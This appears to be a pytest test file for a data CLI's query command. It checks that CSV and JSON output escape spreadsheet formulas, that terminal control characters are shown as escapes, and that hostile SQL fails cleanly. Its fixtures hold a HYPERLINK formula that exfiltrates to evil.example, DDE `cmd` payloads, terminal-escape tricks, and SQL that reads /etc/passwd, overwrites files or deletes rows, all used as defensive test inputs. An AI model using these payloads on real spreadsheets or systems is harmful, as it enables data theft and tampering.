"""`din query` and `din tables` as a report author or an attacker runs them (real subprocesses) over a
real published version in which partners wrote formulas and control characters."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest

from tests.app.test_cli import din
from tests.support.network import Network, write_network
from tests.support.pipeline import run

pytestmark = [pytest.mark.usefixtures("prefect_server"), pytest.mark.xdist_group("prefect")]

#: What partners typed as answers (question id -> answer), and what a spreadsheet must be given.
ANSWERS = {
    "Q3": ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    "Q4": ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    "Q5": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "Q6": (" =1+1", " =1+1"),  # a leading space: text to a spreadsheet, and kept as delivered
    "Q7": ("-5", "-5"),  # a plain number is never touched
    "Q8": ("-2+3", "'-2+3"),
}
TERMINAL_TRICK = "Fine\x1b]0;pwned\x07\x1b[2J\u202eevil"


@pytest.fixture(scope="module")
def network(tmp_path_factory: pytest.TempPathFactory) -> Network:
    network = write_network(tmp_path_factory.mktemp("query"))
    lines = ["panel_id,workshop_id,panellist_ref,question_id,question_text,answer"]
    lines += [f'p1,W1,P2,{q},Anything?,"{a.replace(chr(34), chr(34) * 2)}"' for q, (a, _) in ANSWERS.items()]
    lines.append(f"p1,W1,P3,Q9,Anything?,{TERMINAL_TRICK}")
    network.deliver("university/responses-w1b.csv", "\n".join(lines) + "\n")
    summary = run(network)
    assert summary["outcome"] == "succeeded" and summary["rows_quarantined"] == 0
    return network


def query(network: Network, sql: str, *options: str) -> subprocess.CompletedProcess[str]:
    return din("query", "--config", str(network.config), *options, sql)


def _answers_sql() -> str:
    return "SELECT question_id, answer FROM restricted.responses WHERE question_id >= 'Q3' ORDER BY question_id"


def test_csv_output_escapes_every_formula_partners_wrote(network: Network) -> None:
    result = query(network, _answers_sql(), "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["question_id", "answer"]
    got = {q: a for q, a in rows[1:]}
    assert {q: got[q] for q in ANSWERS} == {q: safe for q, (_, safe) in ANSWERS.items()}


def test_json_output_escapes_formulas_and_keeps_numbers(network: Network) -> None:
    result = query(network, _answers_sql() + "", "--format", "json")
    assert result.returncode == 0, result.stderr
    got = {r["question_id"]: r["answer"] for r in json.loads(result.stdout)}
    assert {q: got[q] for q in ANSWERS} == {q: safe for q, (_, safe) in ANSWERS.items()}
    nested = query(network, "SELECT ['=1+1', 'ok'] AS l, {'k': '@x'} AS s, -5 AS n, '=x' AS \"=name\"", "--format=json")
    assert json.loads(nested.stdout) == [{"l": ["'=1+1", "ok"], "s": {"k": "'@x"}, "n": -5, "'=name": "'=x"}]


def test_csv_output_writes_lists_as_json_text_and_escapes_column_names(network: Network) -> None:
    result = query(network, "SELECT ['=1+1'] AS l, 1 AS \"=name\"", "--format", "csv")
    assert result.returncode == 0, result.stderr
    assert list(csv.reader(io.StringIO(result.stdout))) == [["l", "'=name"], ['["=1+1"]', "1"]]
    empty = query(network, "SELECT org_id FROM organisations WHERE false", "--format", "csv")
    assert empty.stdout.splitlines() == ["org_id"]  # no rows: the header still says which columns


def test_table_output_shows_control_characters_as_escapes(network: Network) -> None:
    result = query(network, "SELECT answer FROM restricted.responses WHERE question_id = 'Q9'")
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout and "\x07" not in result.stdout
    assert "Fine\\x1b]0;pwned\\x07\\x1b[2J\\u202eevil" in result.stdout
    assert result.stdout.rstrip().endswith("1 row; read restricted.responses (restricted tier)")


def test_table_output_shows_the_first_rows_and_says_how_many(network: Network) -> None:
    result = query(network, "SELECT range AS n FROM range(120)")
    assert result.returncode == 0, result.stderr
    assert result.stdout.rstrip().splitlines()[-1] == (
        "showing 50 of 120 rows (--limit N or --all for more, --out FILE to save them); read no published table"
    )
    assert "│ 49  │" in result.stdout and "│ 50  │" not in result.stdout
    everything = query(network, "SELECT range AS n FROM range(120)", "--format", "csv")
    assert len(everything.stdout.splitlines()) == 121
    assert everything.stderr.strip() == "din: 120 rows; read no published table"


def test_limit_and_all_choose_how_many_rows_are_shown(network: Network) -> None:
    sql = "SELECT range AS n FROM range(120)"
    ten = query(network, sql, "--limit", "10")
    assert "│ 9   │" in ten.stdout and "│ 10  │" not in ten.stdout
    assert ten.stdout.rstrip().splitlines()[-1].startswith("showing 10 of 120 rows")
    every = query(network, sql, "--all")
    assert "│ 119 │" in every.stdout
    assert every.stdout.rstrip().splitlines()[-1] == "120 rows; read no published table"
    csv_five = query(network, sql, "--format", "csv", "--limit", "5")
    assert csv_five.stdout.splitlines() == ["n", "0", "1", "2", "3", "4"]
    assert csv_five.stderr.startswith("din: showing 5 of 120 rows")
    none = query(network, sql, "--format", "json", "--limit", "0")
    assert json.loads(none.stdout) == []
    both = query(network, sql, "--all", "--limit", "3")
    assert both.returncode == 2 and "not allowed with argument" in both.stderr
    negative = query(network, sql, "--limit", "-3")
    assert negative.returncode == 2 and "expected a number of rows (0 or more), not '-3'" in negative.stderr


def test_out_writes_every_row_to_a_file_in_the_format_its_name_says(network: Network, tmp_path) -> None:
    target = tmp_path / "answers" / "all.csv"
    result = query(network, "SELECT question_id, answer FROM responses ORDER BY ALL", "--out", str(target))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert rows[0] == ["question_id", "answer"] and len(rows) == 1 + 4 + len(ANSWERS) + 1
    assert ["Q3", ANSWERS["Q3"][1]] in rows  # the formula rule holds in files too
    assert result.stdout.strip() == (
        f"wrote {target}: {len(rows) - 1} rows; read restricted.responses (restricted tier)"
    )
    assert list(target.parent.iterdir()) == [target]  # no temporary file left beside it
    as_json = tmp_path / "orgs.json"
    query(network, "SELECT org_id FROM open.organisations ORDER BY 1", "--out", str(as_json))
    assert json.loads(as_json.read_text()) == [{"org_id": "ORG-A"}, {"org_id": "ORG-B"}]
    cut = tmp_path / "two.txt"
    two = query(network, "SELECT range FROM range(9)", "--out", str(cut), "--limit", "2")
    assert "│ 1     │" in cut.read_text() and "│ 2     │" not in cut.read_text()
    assert two.stdout.startswith(f"wrote {cut}: showing 2 of 9 rows (--limit)")


def test_the_tier_each_table_was_read_from_is_named(network: Network) -> None:
    unqualified = query(network, "SELECT count(*) AS n FROM responses")
    assert unqualified.stdout.rstrip().splitlines()[-1] == "1 row; read restricted.responses (restricted tier)"
    joined = query(
        network,
        "WITH p AS (SELECT * FROM Project_Feedback) SELECT count(*) FROM p JOIN open.projects o "
        "ON o.project_id = p.project_id WHERE EXISTS (SELECT 1 FROM ops.runs)",
        "--format",
        "json",
    )
    assert joined.returncode == 0, joined.stderr
    assert joined.stderr.strip() == (
        "din: 1 row; read open.projects (open tier), restricted.project_feedback (restricted tier), ops.runs (ops tier)"
    )
    as_open_reader = query(network, "SELECT count(*) FROM organisations", "--tier", "open")
    assert as_open_reader.stdout.rstrip().endswith("read open.organisations (open tier)")


ATTACKS = {
    "replace a published table": "COPY (SELECT 42) TO '{current}/open/projects.parquet'",
    "write a file anywhere": "COPY (SELECT 42) TO '{root}/x.csv'",
    "read a system file": "SELECT * FROM read_csv('/etc/passwd')",
    "read any text": "SELECT * FROM read_text('/etc/hostname')",
    "attach the warehouse": "ATTACH '{data}/warehouse.duckdb' AS w",
    "raw landing copy": "SELECT content FROM read_blob('{data}/landing/objects/*/*.csv')",
    "delete": "DELETE FROM organisations",
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attacks_fail_with_one_line_and_change_nothing(network: Network, attack: str) -> None:
    current = network.data_dir / "published" / "current"
    before = {p: p.read_bytes() for p in current.rglob("*") if p.is_file()}
    sql = ATTACKS[attack].format(root=network.root, data=network.data_dir, current=current)
    result = query(network, sql)
    assert result.returncode == 2
    assert result.stdout == ""
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert result.stderr.startswith("din: ")
    assert "Traceback" not in result.stderr and "morag" not in result.stderr.lower()
    assert {p: p.read_bytes() for p in current.rglob("*") if p.is_file()} == before
    assert not (network.root / "x.csv").exists()


ODD_TYPES_SQL = (
    "SELECT INTERVAL 2 DAY AS gap, [INTERVAL 1 HOUR] AS gaps, MAP {'k': 'v'} AS m, union_value(n := 2) AS u, "
    "TIMETZ '10:00:00+01' AS t, '101'::BIT AS b, 'x'::VARIANT AS v, [1, 2]::INT[2] AS a, 1 AS a"
)


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_a_result_of_any_type_or_with_repeated_names_is_written_never_a_crash(network: Network, fmt: str) -> None:
    """Types the writers cannot show natively come as DuckDB's text for them (a list of intervals made
    polars panic); a repeated column name gets a suffix instead of failing the conversion."""
    result = query(network, ODD_TYPES_SQL, "--format", fmt)
    assert result.returncode == 0, result.stderr
    if fmt == "json":
        assert json.loads(result.stdout) == [
            {
                "gap": "2 days",
                "gaps": "['01:00:00']",
                "m": "{k=v}",
                "u": "2",
                "t": "10:00:00+01",
                "b": "101",
                "v": "x",
                "a": [1, 2],
                "a_2": 1,
            }
        ]
    elif fmt == "csv":
        rows = list(csv.reader(io.StringIO(result.stdout)))
        assert rows == [
            ["gap", "gaps", "m", "u", "t", "b", "v", "a", "a_2"],
            ["2 days", "['01:00:00']", "{k=v}", "2", "10:00:00+01", "101", "x", "[1, 2]", "1"],
        ]
    else:
        assert "2 days" in result.stdout and "a_2" in result.stdout and "1 row" in result.stdout


def test_errors_while_fetching_are_one_line(network: Network) -> None:
    failing = "SELECT CASE WHEN range > 20000 THEN error('boom') END FROM range(50000)"
    result = query(network, failing, "--format", "csv")
    assert result.returncode == 2
    assert result.stderr.strip().splitlines() == ["din: Invalid Input Error: boom"]
    slow = query(network, "SELECT count(*) FROM range(1000000000000)", "--timeout", "1")
    assert slow.returncode == 2
    assert slow.stderr.strip() == "din: the query was stopped after 1 s (--timeout)"


def test_tier_decides_what_a_reader_sees(network: Network) -> None:
    tables = din("tables", "--config", str(network.config), "--tier", "open")
    assert tables.returncode == 0, tables.stderr
    listed = {line.split()[0] for line in tables.stdout.splitlines()[1:]}
    assert listed == {"open"}
    hidden = query(network, "SELECT count(*) FROM restricted.responses", "--tier", "open")
    assert hidden.returncode == 2
    assert hidden.stderr.strip() == "din: the restricted tier is not visible to this reader (it sees open)"
    everything = din("tables", "--config", str(network.config))
    assert {line.split()[0] for line in everything.stdout.splitlines()[1:]} == {"open", "restricted", "ops"}


def test_output_cut_short_by_a_pipe_is_not_an_error(network: Network) -> None:
    shell = (
        f"{sys.executable} -m app.cli query --config {network.config} --format csv "
        "'SELECT range FROM range(1000000)' | head -n 2"
    )
    result = subprocess.run(["bash", "-o", "pipefail", "-c", shell], capture_output=True, text=True, timeout=120)
    assert result.stdout.splitlines() == ["range", "0"]
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr and "BrokenPipe" not in result.stderr
